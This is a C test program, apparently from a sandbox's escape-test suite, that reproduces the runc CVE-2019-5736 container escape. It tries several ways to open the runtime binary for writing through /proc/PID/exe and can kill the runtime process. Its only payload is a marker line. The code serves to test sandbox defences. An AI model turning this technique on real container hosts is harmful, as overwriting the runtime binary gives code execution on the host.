/* Overwrite the runtime through /proc/PID/exe (runc CVE-2019-5736 style).
 *
 *   esc_exe exe PID [--kill] [--write]
 *   esc_exe copyexec DIR PID [--kill] [--write]
 *
 * PID is the runtime: corral's init (pid 1) inside the sandbox; on the host,
 * a process the test started from a copy of a binary it owns.
 *
 * exe: (1) open /proc/PID/exe for writing; (2) keep an O_PATH descriptor
 * of it and reopen that through /proc/self/fd/N for writing; (3) execute
 * /proc/PID/exe ourselves (the runc trick: now one of *our* processes runs
 * the runtime binary), grab /proc/CHILD/exe, kill the child and reopen for
 * writing. With --kill the attack also kills PID first (so the file is no
 * longer busy; inside the sandbox init ignores it). A writable descriptor
 * to the runtime's binary is the escape; with --write the attack appends a
 * marker line to prove it (the host test checks its copy got it). Inside
 * the sandbox nothing is ever written.
 *
 * copyexec: copy this program into DIR (a writable grant: the workspace or
 * /tmp), execute the copy, which tries to write its own /proc/self/exe
 * (NOTE only: that file is the sandbox's own) and then runs exe PID. */
#include "esc_common.h"

#include <poll.h>

static const char MARK[] = "\ncorral-esc-exe-overwritten\n";
static int do_write;

static int got_writable(int fd, const char *how)
{
	if (do_write) {
		ssize_t n = write(fd, MARK, sizeof MARK - 1);
		escaped("%s: writable descriptor to the runtime binary (appended %zd bytes)", how, n);
	} else {
		escaped("%s: writable descriptor to the runtime binary", how);
	}
	close(fd);
	return 1;
}

static int reopen_writable(int opath, const char *how)
{
	char p[64];
	snprintf(p, sizeof p, "/proc/self/fd/%d", opath);
	int fd = open(p, O_WRONLY | O_APPEND | O_CLOEXEC);
	if (fd >= 0)
		return got_writable(fd, how);
	note("%s: reopen for writing: %s", how, errname(errno));
	return 0;
}

static int wait_gone(pid_t pid)
{
	for (int i = 0; i < 100; i++) {
		char p[64], link[64];
		snprintf(p, sizeof p, "/proc/%d/exe", (int)pid);
		/* A zombie has dropped its mm, and with it the exe file. */
		if (kill(pid, 0) < 0 || readlink(p, link, sizeof link) < 0)
			return 1;
		struct timespec ts = {0, 20 * 1000 * 1000};
		nanosleep(&ts, NULL);
	}
	return 0;
}

static int attack_exe(pid_t pid, int do_kill)
{
	char path[64];
	snprintf(path, sizeof path, "/proc/%d/exe", (int)pid);
	char target[4096] = "";
	ssize_t tl = readlink(path, target, sizeof target - 1);
	if (tl >= 0)
		target[tl] = 0;
	note("readlink %s: %s", path, tl >= 0 ? target : errname(errno));

	/* 1: directly */
	const int modes[] = {O_WRONLY | O_APPEND, O_RDWR | O_APPEND};
	for (int i = 0; i < 2; i++) {
		int fd = open(path, modes[i] | O_CLOEXEC);
		if (fd >= 0) {
			got_writable(fd, "open(/proc/PID/exe) for writing");
			return 1;
		}
		note("open %s for %s: %s", path, i ? "O_RDWR" : "O_WRONLY", errname(errno));
	}
	int rfd = open(path, O_RDONLY | O_CLOEXEC);
	note("open %s for reading: %s", path, rfd >= 0 ? "ok" : errname(errno));
	if (rfd >= 0)
		close(rfd);

	/* 2: O_PATH now, reopen later */
	int opath = open(path, O_PATH | O_CLOEXEC);
	note("open %s O_PATH: %s", path, opath >= 0 ? "ok" : errname(errno));
	if (opath >= 0 && reopen_writable(opath, "O_PATH of /proc/PID/exe"))
		return 1;

	/* 3: run the runtime binary ourselves */
	int out[2];
	if (pipe(out) == 0) {
		/* Fill the pipe so the child blocks on its first write and stays
		 * alive while we look at it. */
		fcntl(out[1], F_SETFL, O_NONBLOCK);
		char junk[4096];
		memset(junk, 'x', sizeof junk);
		while (write(out[1], junk, sizeof junk) > 0)
			;
		fcntl(out[1], F_SETFL, 0);
		fflush(stdout);
		pid_t c = fork();
		if (c == 0) {
			dup2(out[1], 1);
			dup2(out[1], 2);
			char *av[] = {"runtime", "--version", NULL};
			execv(path, av);
			_exit(111);
		}
		close(out[1]);
		char self[4096] = "", cp[64];
		ssize_t sl = readlink("/proc/self/exe", self, sizeof self - 1);
		self[sl > 0 ? sl : 0] = 0;
		snprintf(cp, sizeof cp, "/proc/%d/exe", (int)c);
		int cpath = -1;
		for (int i = 0; i < 100 && cpath < 0; i++) {
			char now[4096];
			ssize_t nl = readlink(cp, now, sizeof now - 1);
			int st;
			if (waitpid(c, &st, WNOHANG) == c) {
				note("exec %s: child %s%s", path, describe_status(st),
				     WIFEXITED(st) && WEXITSTATUS(st) == 111 ? " (execv failed)" : "");
				c = -1;
				break;
			}
			if (nl > 0) {
				now[nl] = 0;
				if (strcmp(now, self)) {
					cpath = open(cp, O_PATH | O_CLOEXEC);
					note("the child now runs %s; O_PATH of its exe: %s", now,
					     cpath >= 0 ? "ok" : errname(errno));
					break;
				}
			}
			struct timespec ts = {0, 20 * 1000 * 1000};
			nanosleep(&ts, NULL);
		}
		if (c > 0) {
			kill(c, SIGKILL);
			waitpid(c, NULL, 0);
		}
		close(out[0]);
		if (cpath >= 0 && !do_kill && reopen_writable(cpath, "exec of /proc/PID/exe, child killed"))
			return 1;
		if (cpath >= 0 && do_kill) {
			if (opath < 0)
				opath = cpath;
			else
				close(cpath);
		}
	}

	/* 4: make the runtime go away, then reopen */
	if (do_kill && opath >= 0) {
		if (kill(pid, SIGKILL) < 0)
			note("kill(%d, SIGKILL): %s", (int)pid, errname(errno));
		if (wait_gone(pid))
			note("the runtime process %d is gone", (int)pid);
		else
			note("the runtime process %d is still running", (int)pid);
		if (reopen_writable(opath, "O_PATH of /proc/PID/exe after the runtime exited"))
			return 1;
	}
	return 0;
}

int main(int argc, char **argv)
{
	esc_init();
	if (argc < 3)
		return 2;
	int do_kill = 0;
	for (int i = 1; i < argc; i++) {
		if (!strcmp(argv[i], "--kill"))
			do_kill = 1;
		if (!strcmp(argv[i], "--write"))
			do_write = 1;
	}
	if (!strcmp(argv[1], "exe")) {
		attack_exe((pid_t)atoi(argv[2]), do_kill);
		return finish("the runtime binary could not be opened for writing");
	}
	if (!strcmp(argv[1], "selfexe")) {
		/* We are the copy. Our own file: busy while we run. */
		int fd = open("/proc/self/exe", O_WRONLY | O_APPEND | O_CLOEXEC);
		note("the copy opens its own /proc/self/exe for writing: %s",
		     fd >= 0 ? "ok (its own file, not an escape)" : errname(errno));
		if (fd >= 0)
			close(fd);
		attack_exe((pid_t)atoi(argv[2]), do_kill);
		return finish("the runtime binary could not be opened for writing from an executed copy");
	}
	if (!strcmp(argv[1], "copyexec") && argc > 3) {
		char dst[4096];
		snprintf(dst, sizeof dst, "%s/esc-exe-copy-%d", argv[2], (int)getpid());
		int in = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
		int out = open(dst, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755);
		if (in < 0 || out < 0) {
			note("copy to %s: %s", dst, errname(errno));
			return finish("could not copy the attack");
		}
		char buf[65536];
		ssize_t n;
		while ((n = read(in, buf, sizeof buf)) > 0)
			if (write(out, buf, (size_t)n) != n)
				break;
		close(in);
		close(out);
		char *av[8] = {dst, "selfexe", argv[3]};
		int ac = 3;
		if (do_kill)
			av[ac++] = "--kill";
		if (do_write)
			av[ac++] = "--write";
		av[ac] = NULL;
		fflush(stdout);
		pid_t c = fork();
		if (c == 0) {
			execv(dst, av);
			printf("NOTE: exec %s: %s\n", dst, errname(errno));
			printf("BLOCKED: could not execute the copy\n");
			_exit(1);
		}
		int st;
		waitpid(c, &st, 0);
		unlink(dst);
		/* The copy printed the verdict; pass its exit status on. */
		return WIFEXITED(st) ? WEXITSTATUS(st) : 3;
	}
	return 2;
}
